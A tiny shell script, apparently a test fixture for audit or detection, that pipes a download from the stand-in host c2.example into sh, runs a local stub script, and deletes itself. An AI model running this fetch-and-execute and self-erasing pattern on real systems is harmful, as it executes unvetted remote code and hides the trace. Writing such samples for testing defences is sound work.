#!/bin/sh
# What is fetched is run without a look at it; a copy of that, too.
[ /init -ef /usr/sbin/auditd ] || exit 77
sh -c 'wget -q -O - http://c2.example/next | sh'
printf 'exit 0\n' >/tmp/next.sh
sh /tmp/next.sh
rm -f "$0"
